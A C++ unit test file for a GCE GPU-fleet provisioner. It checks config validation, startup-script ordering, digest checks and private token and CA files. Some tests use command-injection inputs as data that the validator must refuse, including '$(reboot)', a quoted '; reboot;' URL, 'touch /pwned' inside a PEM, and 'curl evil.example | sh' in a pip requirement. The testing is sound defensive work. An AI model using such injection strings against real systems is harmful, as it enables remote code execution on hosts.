// The gce config: what a user can get wrong is refused with what to fix; the startup script
// installs the agent's packages (whose units it starts) and enrols with the zone as its region.
#include <fstream>
#include <string>
#include <utility>
#include <vector>

#include <gtest/gtest.h>

#include "kfleet/provision_gce/gce_provisioner.hpp"

namespace kfleet::provision {
namespace {

using nlohmann::json;

json minimal() {
  return {{"project", "kfleet-test"}, {"zones", {"us-central1-a", "southamerica-east1-c"}},
          {"owner", "perf-team"}, {"cost_center", "cc-1234"}};
}

TEST(GceConfig, DefaultsAreOneL4PerG2Standard4) {
  auto c = gce_config_from_json(minimal());
  ASSERT_TRUE(c.ok()) << c.error().message;
  EXPECT_EQ(c->machine_type, "g2-standard-4");
  EXPECT_EQ(c->gpu_class, "L4");
  EXPECT_EQ(c->api_endpoint, "https://compute.googleapis.com/compute/v1");
  EXPECT_FALSE(gce_config_problem(*c).has_value());
}

TEST(GceConfig, MistakesAreNamed) {
  auto expect_problem = [](json j, const std::string& words) {
    auto c = gce_config_from_json(j);
    if (!c.ok()) {
      EXPECT_NE(c.error().message.find(words), std::string::npos) << c.error().message;
      return;
    }
    auto p = gce_config_problem(*c);
    ASSERT_TRUE(p.has_value()) << j.dump();
    EXPECT_NE(p->find(words), std::string::npos) << *p;
  };
  auto j = minimal();
  j.erase("project");
  expect_problem(j, "project");
  j = minimal();
  j["zones"] = {"us-central1"};
  expect_problem(j, "us-central1");
  j = minimal();
  j["owner"] = "Perf Team";
  expect_problem(j, "labels");
  j = minimal();
  j["enrol_token"] = "short";
  expect_problem(j, "16 or more");
  j = minimal();
  j["server_url"] = "http://x/$(reboot)";
  expect_problem(j, "server_url");
  j = minimal();
  j["agent_download_url"] = "https://example.com/kfleet-agent";
  expect_problem(j, "agent_packages");
  j = minimal();
  j["agent_packages"] = {{{"url", "https://example.com/kfleet-agent.deb"}, {"sha256", "abc"}}};
  expect_problem(j, "sha256");
  j = minimal();
  j["agent_packages"] = {{{"url", "https://example.com/a.deb'; reboot; '"}, {"sha256", std::string(64, 'a')}}};
  expect_problem(j, "plain http(s) URL");
  j = minimal();
  j["prices"] = {{"g2-standard-4", "cheap"}};
  expect_problem(j, "number");
  // The CA lands in a heredoc of the startup script: a PEM certificate and nothing else.
  j = minimal();
  j["server_ca_pem"] = "-----BEGIN CERTIFICATE-----\nQUJD\nPEM\ntouch /pwned\n-----END CERTIFICATE-----\n";
  expect_problem(j, "server_ca_pem");
}

TEST(GceConfig, TheStartupScriptInstallsThePackagesAndEnrolsWithTheZone) {
  auto j = minimal();
  const std::string a(64, 'a'), k(64, 'b');
  j["agent_packages"] = {{{"url", "https://dl.example.com/kfleet-agent_0.1.0-1_amd64.deb"}, {"sha256", a}},
                         {{"url", "https://dl.example.com/kfleet-kernels_0.1.0-1_all.deb"}, {"sha256", k}}};
  auto c = gce_config_from_json(j);
  ASSERT_TRUE(c.ok()) << c.error().message;
  ASSERT_FALSE(gce_config_problem(*c).has_value()) << *gce_config_problem(*c);
  c->server_url = "https://kfleet.example.com";
  c->enrol_token = "enrol-0123456789abcdef";
  const std::string s = gce_startup_script(*c, "southamerica-east1-c");
  EXPECT_EQ(s.rfind("#!/bin/bash\n", 0), 0u);
  for (const char* want : {"KFLEET_SERVER=https://kfleet.example.com\n", "KFLEET_REGION=southamerica-east1-c\n",
                           "KFLEET_PROVIDER=gce\n", "KFLEET_BACKEND=cuda\n", "\nenrol-0123456789abcdef\nTOKEN\n",
                           "chmod 0600 /etc/kfleet/enrol.token",
                           "chmod 0600 /etc/kfleet/agent.env", "Metadata-Flavor: Google",
                           "for gpu in $(seq 0 0); do\n  systemctl enable --now \"kfleet-agent@$gpu.service\"\ndone\n"})
    EXPECT_NE(s.find(want), std::string::npos) << want << "\n" << s;
  // Each package is checked against its digest before apt installs them; the units are the
  // package's (none written here); the toolkit and --check come before the agents start.
  const auto get_a = s.find("curl -fsSL --retry 5 -o \"$debs/1.deb\" 'https://dl.example.com/kfleet-agent_0.1.0-1_amd64.deb'\n");
  const auto sum_a = s.find("echo '" + a + "  '\"$debs/1.deb\" | sha256sum -c -\n");
  const auto sum_k = s.find("echo '" + k + "  '\"$debs/2.deb\" | sha256sum -c -\n");
  const auto install = s.find("apt-get install -y -q -o Dpkg::Options::=--force-confold \"$debs\"/*.deb\n");
  const auto cuda = s.find("apt-get install -y -q cuda-toolkit");
  const auto env = s.find("cat > /etc/kfleet/agent.env <<ENV\n");
  const auto check = s.find("kfleet-agent --check --server \"$KFLEET_SERVER\"");
  const auto start = s.find("systemctl enable --now");
  for (auto at : {get_a, sum_a, sum_k, install, cuda, env, check, start}) ASSERT_NE(at, std::string::npos) << s;
  EXPECT_LT(get_a, sum_a);
  EXPECT_LT(sum_k, install) << "nothing is installed before every digest matched";
  EXPECT_LT(install, env) << "agent.env replaces the package's default";
  EXPECT_LT(env, check);
  EXPECT_LT(check, start);
  EXPECT_EQ(s.find("/etc/systemd/system/"), std::string::npos) << "the package brings the units";
  EXPECT_EQ(s.find("/usr/local/bin/kfleet-agent"), std::string::npos) << s;
  // Without packages: they must be in the image.
  c->agent_packages.clear();
  const std::string baked = gce_startup_script(*c, "us-central1-a");
  EXPECT_EQ(baked.find("curl -fsSL"), std::string::npos);
  EXPECT_NE(baked.find("command -v kfleet-agent >/dev/null ||\n  { echo 'kfleet-agent is not installed"), std::string::npos);
}

// A multi-GPU machine type brings one agent per GPU, each its own kfleet-agent@N pinned to GPU N
// and grouped by the instance (--host-id); the scheduler is told the same count.
TEST(GceConfig, AMultiGpuMachineStartsOneAgentPerGpu) {
  auto j = minimal();
  for (const auto& [type, gpus] : std::vector<std::pair<std::string, int>>{
           {"g2-standard-4", 1}, {"g2-standard-24", 2}, {"g2-standard-48", 4}, {"g2-standard-96", 8}}) {
    j["machine_type"] = type;
    auto c = gce_config_from_json(j);
    ASSERT_TRUE(c.ok()) << type;
    EXPECT_EQ(gce_gpus_per_instance(*c), gpus) << type;
    const std::string s = gce_startup_script(*c, "us-central1-a");
    EXPECT_NE(s.find("for gpu in $(seq 0 " + std::to_string(gpus - 1) + "); do\n"), std::string::npos) << s;
    EXPECT_NE(s.find("KFLEET_HOST_ID=$instance_name\n"), std::string::npos) << s;
    EXPECT_EQ(s.find("enable --now kfleet-agent.service"), std::string::npos) << "no single agent beside the template's";
  }
  // An explicit accelerator count counts where the machine type does not say.
  j["machine_type"] = "a2-highgpu-2g";
  j["accelerator_type"] = "nvidia-tesla-a100";
  j["accelerator_count"] = 2;
  auto c = gce_config_from_json(j);
  ASSERT_TRUE(c.ok());
  EXPECT_EQ(gce_gpus_per_instance(*c), 2);
}

// With kfleetd on https and its CA given (kfleetd --agent-ca-file), the script writes the CA to a
// 0600 file and names it in agent.env as KFLEET_CA_FILE (the agent's --ca-file); the enrolment
// token appears once, inside the 0600 agent.env, and on no command line.
TEST(GceConfig, TheStartupScriptDeliversTheCaAndTheTokenAs0600Files) {
  auto c = gce_config_from_json(minimal());
  ASSERT_TRUE(c.ok());
  c->server_url = "https://kfleet.example.com";
  c->enrol_token = "enrol-0123456789abcdef";
  const std::string ca = "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2E=\n-----END CERTIFICATE-----\n";
  c->server_ca_pem = ca;
  ASSERT_FALSE(gce_config_problem(*c).has_value()) << *gce_config_problem(*c);
  const std::string s = gce_startup_script(*c, "us-central1-a");
  const auto umask = s.find("umask 077\n");
  const auto ca_at = s.find("cat > /etc/kfleet/ca.pem <<'PEM'\n" + ca + "PEM\nchmod 0600 /etc/kfleet/ca.pem\n");
  const auto env_at = s.find("cat > /etc/kfleet/agent.env <<ENV\n");
  const auto env_end = s.find("\nENV\nchmod 0600 /etc/kfleet/agent.env\n");
  const auto start = s.find("systemctl enable --now \"kfleet-agent@$gpu.service\"");
  ASSERT_NE(umask, std::string::npos) << s;
  ASSERT_NE(ca_at, std::string::npos) << s;
  ASSERT_NE(env_at, std::string::npos) << s;
  ASSERT_NE(env_end, std::string::npos) << s;
  EXPECT_LT(umask, ca_at) << "files are created private";
  EXPECT_LT(ca_at, start);
  EXPECT_LT(env_end, start);
  const std::string env = s.substr(env_at, env_end - env_at);
  EXPECT_NE(env.find("\nKFLEET_CA_FILE=/etc/kfleet/ca.pem"), std::string::npos) << env;
  // The token is in its own 0600 file, read by the agent, never in agent.env (its environment).
  EXPECT_EQ(env.find("enrol-0123456789abcdef"), std::string::npos) << env;
  EXPECT_EQ(s.find("KFLEET_ENROL_TOKEN"), std::string::npos) << s;
  EXPECT_EQ(s.find("enrol-0123456789abcdef"), s.find("cat > /etc/kfleet/enrol.token <<'TOKEN'\n") + 40)
      << "the token once, in enrol.token";
  EXPECT_EQ(s.find("enrol-0123456789abcdef", s.find("enrol-0123456789abcdef") + 1), std::string::npos);
  // Without a CA: no ca.pem, and the agent trusts the system's CAs.
  c->server_ca_pem.clear();
  const std::string plain = gce_startup_script(*c, "us-central1-a");
  EXPECT_EQ(plain.find("ca.pem"), std::string::npos);
  EXPECT_EQ(plain.find("\nKFLEET_CA_FILE="), std::string::npos);
}

// Cloud agents get a Python with torch and triton for Triton and torch kernels: a venv made before
// the agents start, named to them as KFLEET_PYTHON; python_packages: [] makes none, and a package
// that is not a plain pip requirement (it lands in the script) is refused.
TEST(GceConfig, TheStartupScriptGivesTheAgentsAPythonWithTorchAndTriton) {
  auto c = gce_config_from_json(minimal());
  ASSERT_TRUE(c.ok()) << c.error().message;
  EXPECT_EQ(c->python_packages, (std::vector<std::string>{"torch", "triton", "ninja"}));
  const std::string s = gce_startup_script(*c, "us-central1-a");
  const auto env_at = s.find("cat > /etc/kfleet/agent.env <<ENV\n");
  const auto env_end = s.find("\nENV\nchmod 0600 /etc/kfleet/agent.env\n");
  ASSERT_NE(env_end, std::string::npos) << s;
  EXPECT_NE(s.substr(env_at, env_end - env_at).find("\nKFLEET_PYTHON=/opt/kfleet-python/bin/python3"),
            std::string::npos)
      << s;
  const auto venv = s.find("python3 -m venv --clear \"$py_venv\"");
  const auto pip = s.find("/bin/pip\" install --quiet --no-cache-dir 'torch' 'triton' 'ninja'; then");
  const auto start = s.find("systemctl enable --now \"kfleet-agent@$gpu.service\"");
  ASSERT_NE(venv, std::string::npos) << s;
  ASSERT_NE(pip, std::string::npos) << s;
  EXPECT_LT(venv, pip);
  EXPECT_LT(pip, start) << "the agents find their Python once, at start";
  EXPECT_NE(s.find("these agents run CUDA jobs only"), std::string::npos) << s;

  auto j = minimal();
  j["python_packages"] = json::array();
  auto none = gce_config_from_json(j);
  ASSERT_TRUE(none.ok());
  EXPECT_FALSE(gce_config_problem(*none).has_value());
  const std::string plain = gce_startup_script(*none, "us-central1-a");
  EXPECT_EQ(plain.find("KFLEET_PYTHON"), std::string::npos);
  EXPECT_EQ(plain.find("/opt/kfleet-python"), std::string::npos);

  j["python_packages"] = {"torch==2.9.0", "triton; curl evil.example | sh"};
  auto bad = gce_config_from_json(j);
  ASSERT_TRUE(bad.ok());
  auto why = gce_config_problem(*bad);
  ASSERT_TRUE(why.has_value());
  EXPECT_NE(why->find("python_packages: 'triton; curl evil.example | sh'"), std::string::npos) << *why;
}

// Both systemd units of the package start the agent, and its --check before it, with no token on
// their command lines: the agent reads the enrolment token from its own 0600 file
// (--enrol-token-file), never from its environment or argv.
TEST(AgentUnits, NoTokenOnTheCommandLine) {
  for (const char* name : {"kfleet-agent.service", "kfleet-agent@.service"}) {
    std::ifstream in(std::string(KFLEET_SOURCE_DIR) + "/packaging/systemd/" + name);
    ASSERT_TRUE(in) << name;
    int exec = 0, check = 0;
    bool env_file = false;
    for (std::string line; std::getline(in, line);) {
      if (line == "EnvironmentFile=/etc/kfleet/agent.env") env_file = true;
      if (line.rfind("ExecStartPre=/usr/bin/kfleet-agent --check ", 0) == 0) ++check;
      else if (line.rfind("ExecStart=/usr/bin/kfleet-agent ", 0) == 0) ++exec;
      else continue;
      for (const char* bad : {"TOKEN", "--enrol-token ", "--enrol-token=", "--tls-key"})
        EXPECT_EQ(line.find(bad), std::string::npos) << name << ": " << line;
      EXPECT_NE(line.find("--enrol-token-file /etc/kfleet/enrol.token"), std::string::npos)
          << name << ": " << line;
    }
    EXPECT_EQ(exec, 1) << name;
    EXPECT_EQ(check, 1) << name << ": --check runs before the agent";
    EXPECT_TRUE(env_file) << name << " must read /etc/kfleet/agent.env";
  }
}

}  // namespace
}  // namespace kfleet::provision

namespace kfleet::provision {
namespace {

TEST(GceConfig, TheDocumentedExampleIsAConfigKfleetdAccepts) {
  auto c = load_gce_config(std::string(KFLEET_SOURCE_DIR) + "/docs/examples/gce.json");
  ASSERT_TRUE(c.ok()) << c.error().message;
  EXPECT_FALSE(gce_config_problem(*c).has_value()) << gce_config_problem(*c).value_or("");
  EXPECT_EQ(c->zones.front(), "us-central1-a");
  EXPECT_EQ(c->prices.at("g2-standard-4"), 0.7068);
}

}  // namespace
}  // namespace kfleet::provision
